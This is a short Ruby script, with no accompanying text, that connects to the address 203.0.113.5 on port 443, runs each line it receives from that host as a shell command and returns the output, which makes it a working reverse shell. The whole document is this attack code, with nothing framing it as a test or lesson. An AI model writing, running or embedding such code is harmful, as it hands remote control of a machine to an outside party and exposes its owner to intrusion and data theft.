require "socket"

client = TCPSocket.new("203.0.113.5", 443)
while (line = client.gets)
  IO.popen(line, "r") { |io| client.print io.read }
end
